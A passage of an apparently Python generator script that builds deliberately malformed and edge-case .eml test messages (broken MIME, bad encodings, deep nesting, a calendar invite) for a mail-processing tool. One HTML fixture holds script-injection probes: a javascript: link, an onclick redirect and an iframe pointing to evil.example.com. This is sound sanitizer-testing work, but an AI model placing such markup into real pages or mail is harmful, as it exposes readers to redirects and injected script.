        "%s <hanako@example.lg.jp>" % ew("高橋 花子", "ISO-2022-JP", "iso2022_jp"),
        '"Kimura, Saburo" <saburo@example.com>',
    ])
    headers = [
        "Return-Path: <bounce-12345@example.com>",
        *received,
        "DKIM-Signature: v=1; a=rsa-sha256; c=relaxed/relaxed; d=example.com;\n"
        "\ts=selector1; t=1794182400; h=from:to:subject:date:message-id;\n"
        "\tbh=47DEQpj8HBSa+/TImW+5JCeuQeRkm5NMpJWZG3hSuFU=;\n"
        "\tb=dGhpcyBpcyBub3QgYSByZWFsIHNpZ25hdHVyZSwganVzdCBhIHNhbXBsZSBm\n"
        "\t b3IgdGVzdGluZw==",
        "Authentication-Results: mx.example.lg.jp; spf=pass smtp.mailfrom=example.com;\n"
        "\tdkim=pass header.d=example.com",
        "Date: " + date(12, 8, 59),
        "From: %s <hanako.sato@example.com>" % ew("佐藤 花子"),
        "To: taro@example.lg.jp",
        "Cc: " + cc,
        "Reply-To: %s <support@example.com>" % ew("サポート窓口"),
        "Subject: " + ew("定例会議の議事録"),
        "Message-ID: " + msgid("many-headers"),
        "X-Mailer: Microsoft Outlook 16.0",
        "X-Originating-IP: [203.0.113.44]",
        "X-MS-Has-Attach:",
        "Thread-Topic: =?utf-8?B?5a6a5L6L5Lya6K2w?=",
        "List-Id: <teirei.example.com>",
        "List-Unsubscribe: <https://example.com/unsubscribe?u=12345&t=abcdef>,\n"
        " <mailto:unsubscribe@example.com?subject=unsubscribe>",
        "List-Unsubscribe-Post: List-Unsubscribe=One-Click",
        "Precedence: bulk",
        "MIME-Version: 1.0",
        "Content-Type: text/plain; charset=utf-8",
        "Content-Transfer-Encoding: 8bit",
    ]
    return build(headers, text("各位\n\n定例会議の議事録を共有します。\n\n佐藤\n"))


@sample("broken-no-boundary", "Content-Type: multipart/mixed without a boundary parameter; body has boundary-looking lines")
def _():
    body = """\
This is a multi-part message in MIME format.

--MissingBoundary
Content-Type: text/plain; charset=utf-8

境界パラメータが欠落したマルチパートです。

--MissingBoundary--
"""
    headers = top("broken-no-boundary", ew("壊れたマルチパート"), 13, 9, 0)
    headers.append("Content-Type: multipart/mixed")
    return build(headers, text(body))


@sample("broken-base64-body", "text/plain with Content-Transfer-Encoding: base64 but the body mixes valid base64 with garbage (!!!@@@###) and bad padding")
def _():
    good = base64.b64encode("お世話になっております。".encode("utf-8")).decode("ascii")
    body = (good[:40] + "\n" + "!!!@@@###" + good[40:] + "\n"
            + "this line is not base64 at all ~~~\n"
            + "QUJD=RUZH==\n" + "%%%%\n")
    return plain_message("broken-base64-body", ew("壊れたbase64本文"), b(body),
                         "text/plain; charset=utf-8", "base64", 13, 9, 30)


@sample("deep-nesting", "30 levels of nested multipart/mixed (unique boundaries) ending in a text/plain part; must trip a max_depth of 20")
def _():
    depth = 30
    inner = build(["Content-Type: text/plain; charset=utf-8",
                   "Content-Transfer-Encoding: 8bit"],
                  text("30階層の入れ子の最深部です。\n"))
    for level in range(depth, 1, -1):
        bnd = "nest-level-%02d" % level
        inner = build(['Content-Type: multipart/mixed; boundary="%s"' % bnd],
                      multipart(bnd, [inner]))
    headers = top("deep-nesting", ew("深い入れ子"), 13, 10, 0)
    headers.append('Content-Type: multipart/mixed; boundary="nest-level-01"')
    return build(headers, multipart("nest-level-01", [inner]))


@sample("not-a-message", "2 KB of deterministic pseudo-random binary (random.Random(42)) starting with 00 01: no header lines at all", eol="raw")
def _():
    rnd = random.Random(42)
    return b"\x00\x01" + bytes(rnd.getrandbits(8) for _ in range(2046))


# ---------------------------------------------------------------------------
# damaged text that mail clients read anyway: each is repaired, never refused
# ---------------------------------------------------------------------------

@sample("repair-bom", "a UTF-8 byte order mark before the first header field (written by some Windows tools saving .eml)")
def _():
    headers = top("repair-bom", ew("BOM付きのメール"), 14, 9, 0)
    headers += ["Content-Type: text/plain; charset=utf-8",
                "Content-Transfer-Encoding: 8bit"]
    return "\ufeff".encode("utf-8") + build(headers, text("先頭にBOMが付いたメールです。\n"))


@sample("repair-leading-blank-lines", "two blank lines and a space-only line before the header block")
def _():
    headers = top("repair-leading-blank-lines", ew("先頭の空行"), 14, 9, 5)
    headers += ["Content-Type: text/plain; charset=utf-8",
                "Content-Transfer-Encoding: 8bit"]
    return b"\n\n \n" + build(headers, text("ヘッダーの前に空行があるメールです。\n"))


@sample("repair-headerless", "no header block at all: a saved message body (Japanese text, then a blank line, then more text)")
def _():
    return text("お問い合わせありがとうございます。\n\n本文だけが保存されたメールです。\n")


@sample("repair-7bit-with-8bit", "Content-Transfer-Encoding: 7bit on a UTF-8 body full of 8-bit bytes, and a 7bit part holding raw Shift_JIS labelled ISO-2022-JP")
def _():
    first = build(["Content-Type: text/plain; charset=utf-8",
                   "Content-Transfer-Encoding: 7bit"],
                  text("7bitと書かれたUTF-8の本文です。\n"))
    second = build(["Content-Type: text/plain; charset=ISO-2022-JP",
                    "Content-Transfer-Encoding: 7bit",
                    "Content-Disposition: inline"],
                   text("7bitと書かれたシフトJISの追記です。\n", "cp932"))
    headers = top("repair-7bit-with-8bit", ew("7bitの8ビット本文"), 14, 9, 10)
    headers.append('Content-Type: multipart/mixed; boundary="seven"')
    return build(headers, multipart("seven", [first, second]))


@sample("repair-obsolete-header", "obsolete header syntax (RFC 5322 section 4): spaces before the colon in 'Subject :' and 'From :', a folded To")
def _():
    lines = [
        "Date : " + date(14, 9, 15),
        "From : " + "%s <hanako.sato@example.com>" % ew("佐藤 花子"),
        "To: taro@example.lg.jp,\n jiro@example.lg.jp",
        "Subject : " + ew("古い書式のヘッダー"),
        "Message-ID: " + msgid("repair-obsolete-header"),
        "MIME-Version: 1.0",
        "Content-Type: text/plain; charset=utf-8",
        "Content-Transfer-Encoding: 8bit",
    ]
    return build(lines, text("コロンの前に空白があるヘッダーのメールです。\n"))


@sample("repair-qp-errors", "quoted-printable with escapes that are not escapes (=ZZ, a lone = before text), lowercase hex, trailing spaces after a soft line break")
def _():
    good = quopri.encodestring("引用符付き印字可能の本文です。".encode("utf-8")).decode("ascii").lower()
    body = (good + "\n"
            + "=ZZ is not an escape, 100%=50% either\n"
            + "soft break with trailing spaces=   \n"
            + "continues here.\n")
    return plain_message("repair-qp-errors", ew("壊れたQP本文"), b(body),
                         "text/plain; charset=utf-8", "quoted-printable", 14, 9, 20)


@sample("repair-base64-padding", "base64 with padding in the wrong place, a signature glued on after the padding, a line with spaces inside and a stray character")
def _():
    one = base64.b64encode("壊れたbase64の本文です。".encode("utf-8")).decode("ascii")
    two = base64.b64encode("二行目です。".encode("utf-8")).decode("ascii")
    body = (one[:20] + "\n" + one[20:] + "== -- sent from my phone\n"
            + two[:8] + "*" + two[8:] + "\n")
    return plain_message("repair-base64-padding", ew("壊れたパディング"), b(body),
                         "text/plain; charset=utf-8", "base64", 14, 9, 25)


@sample("repair-unclosed-multipart", "multipart/mixed whose closing boundary never comes: the text part and a PNG attachment, then the message ends")
def _():
    first = build(["Content-Type: text/plain; charset=utf-8",
                   "Content-Transfer-Encoding: 8bit"],
                  text("閉じ境界のないマルチパートです。\n"))
    png = build(["Content-Type: image/png; name=\"logo.png\"",
                 "Content-Disposition: attachment; filename=\"logo.png\"",
                 "Content-Transfer-Encoding: base64"],
                b64body(PNG_1X1))
    headers = top("repair-unclosed-multipart", ew("閉じ境界なし"), 14, 9, 30)
    headers.append('Content-Type: multipart/mixed; boundary="open"')
    return build(headers, b"--open\n" + first + b"--open\n" + png)


@sample("repair-nested-no-boundary", "multipart/mixed holding a multipart/alternative that has no boundary parameter, its parts delimited by a boundary that does appear")
def _():
    alt_plain = build(["Content-Type: text/plain; charset=utf-8"],
                      text("入れ子の境界が欠落したメールです。\n"))
    alt_html = build(["Content-Type: text/html; charset=utf-8"],
                     text("<p>入れ子の境界が欠落したメールです。</p>\n"))
    inner = build(["Content-Type: multipart/alternative"],
                  multipart("inner-lost", [alt_plain, alt_html]))
    note = build(["Content-Type: text/plain; charset=utf-8"], text("追記です。\n"))
    headers = top("repair-nested-no-boundary", ew("入れ子の境界なし"), 14, 9, 35)
    headers.append('Content-Type: multipart/mixed; boundary="outer"')
    return build(headers, multipart("outer", [inner, note]))


@sample("repair-dsn-blank-lines", "multipart/report delivery-status whose status part has extra blank lines between and inside its field groups, and no closing boundary after text/rfc822-headers")
def _():
    human = build(["Content-Type: text/plain; charset=utf-8"],
                  text("次の宛先に配送できませんでした。\n\n  nobody@example.lg.jp\n"))
    status = build(["Content-Type: message/delivery-status"],
                   b"\n\nReporting-MTA: dns; mx.example.lg.jp\n\n\n"
                   b"Final-Recipient: rfc822; nobody@example.lg.jp\n\n"
                   b"Action: failed\nStatus: 5.1.1\n\n\n")
    headers_part = build(["Content-Type: text/rfc822-headers"],
                         b"From: taro@example.lg.jp\nTo: nobody@example.lg.jp\nSubject: "
                         + b(ew("会議資料")) + b"\n")
    headers = top("repair-dsn-blank-lines", "Undelivered Mail Returned to Sender", 14, 9, 40,
                  frm="MAILER-DAEMON@mx.example.lg.jp (Mail Delivery System)")
    headers.append('Content-Type: multipart/report; report-type=delivery-status; boundary="dsn"')
    body = b"--dsn\n" + human + b"--dsn\n" + status + b"--dsn\n" + headers_part
    return build(headers, body)


@sample("repair-header-words", "damaged encoded words: a UTF-7 alias charset, extra padding, a word inside a quoted display name, back-to-back ISO-2022-JP words across a whitespace-only folded line")
def _():
    utf7 = "=?UNICODE-1-1-UTF-7?B?%s?=" % base64.b64encode("会議のご案内".encode("utf-7")).decode("ascii").rstrip("=")
    jis1 = base64.b64encode("資料の".encode("iso2022_jp")).decode("ascii")
    jis2 = base64.b64encode("送付".encode("iso2022_jp")).decode("ascii")
    subject = "%s =?ISO-2022-JP?B?%s=?=\n \n =?ISO-2022-JP?B?%s?=" % (utf7, jis1, jis2)
    frm = '"%s" <ichiro@example.jp>' % ew("鈴木 一郎", "ISO-2022-JP", "iso2022_jp")
    headers = top("repair-header-words", subject, 14, 9, 45, frm=frm)
    headers += ["Content-Type: text/plain; charset=utf-8",
                "Content-Transfer-Encoding: 8bit"]
    return build(headers, text("ヘッダーの符号化語が壊れたメールです。\n"))


HTML_ENTITIES = """\
<html><head><title>お知らせ</title></head>
<body>
<p>次の文字列はスクリプトではなく表示用のテキストです:
&lt;script&gt;alert(1)&lt;/script&gt;</p>
<p onclick="location.href='https://evil.example.com/'">ここをクリックしてください。</p>
<iframe src="https://evil.example.com/frame.html" width="300" height="200"></iframe>
<p><a href="javascript:alert(1)">click</a></p>
<p>&amp; &quot;引用&quot; &copy; 2026 &#x3042;&#12356;</p>
</body></html>
"""


@sample("html-script-entities", "text/html with escaped &lt;script&gt; as visible text, an iframe, an onclick handler and a javascript: link; entities must decode to text, not markup")
def _():
    return plain_message("html-script-entities", ew("表示テスト"), text(HTML_ENTITIES),
                         "text/html; charset=utf-8", "8bit", 14, 9, 0)


ICS = """\
BEGIN:VCALENDAR
PRODID:-//Example Corp//Sample Calendar 1.0//JA
VERSION:2.0
METHOD:REQUEST
BEGIN:VTIMEZONE
TZID:Asia/Tokyo
BEGIN:STANDARD
DTSTART:19700101T000000
TZOFFSETFROM:+0900
TZOFFSETTO:+0900
TZNAME:JST
END:STANDARD
END:VTIMEZONE
BEGIN:VEVENT
UID:20261124T050000Z-0001@example.com
DTSTAMP:20261114T010000Z
DTSTART;TZID=Asia/Tokyo:20261124T140000
DTEND;TZID=Asia/Tokyo:20261124T150000
SUMMARY:次期システム更改 打合せ
LOCATION:例示市役所 本庁舎3階 第2会議室
ORGANIZER;CN=佐藤 花子:mailto:hanako.sato@example.com
ATTENDEE;CN=山田 太郎;ROLE=REQ-PARTICIPANT;RSVP=TRUE:mailto:taro@example.lg.jp
DESCRIPTION:次期システム更改のスケジュールについて打合せを行います。
END:VEVENT
END:VCALENDAR
"""


def ics_fold(ics):
    """RFC 5545 line folding: at most 75 octets per line, never splitting a
    UTF-8 character; continuation lines start with a space."""
    out = bytearray()
    for line in ics.splitlines():
        cur, limit = b"", 75
        for ch in line:
            enc = ch.encode("utf-8")
            if len(cur) + len(enc) > limit:
                out += cur + b"\n "
                cur, limit = b"", 74
            cur += enc
        out += cur + b"\n"
    return bytes(out)


@sample("calendar-invite", "multipart/mixed with text/plain and a text/calendar; method=REQUEST part (Japanese SUMMARY/LOCATION) that should be removed")
def _():
    parts = [
        build(["Content-Type: text/plain; charset=utf-8",
               "Content-Transfer-Encoding: 8bit"],
              text("山田様\n\n打合せの招待をお送りします。\n\n佐藤\n")),
        build(["Content-Type: text/calendar; method=REQUEST; charset=utf-8",
               "Content-Transfer-Encoding: 8bit"], ics_fold(ICS)),
    ]
    headers = top("calendar-invite", ew("招待: 次期システム更改 打合せ"), 14, 10, 0)
    headers.append('Content-Type: multipart/mixed; boundary="cal-mixed-b"')
    return build(headers, multipart("cal-mixed-b", parts))


# ---------------------------------------------------------------------------

def write_readme():
    lines = [
        "# Sample messages",
        "",
        "Test input messages for mugai. They are generated by",
        "`python3 samples/make_samples.py` (stdlib only, deterministic:",
        "re-running it reproduces every file byte-for-byte). Edit the script,",
        "not the `.eml` files. All addresses use example.com / example.jp /",
        "example.lg.jp; all dates are fixed in November 2026 (+0900).",
        "Line ends are CRLF unless the sample is about line ends.",
        "",
        "| File | Exercises |",
        "|------|-----------|",
    ]
    for name in ORDER:
        desc = SAMPLES[name][1].replace("|", "\\|")
        lines.append("| `%s.eml` | %s |" % (name, desc))
    lines.append("")
    (OUT_DIR / "README.md").write_bytes("\n".join(lines).encode("utf-8"))


def main():
    for name in ORDER:
        data = SAMPLES[name][0]()
        (OUT_DIR / (name + ".eml")).write_bytes(data)
    write_readme()


if __name__ == "__main__":
    main()
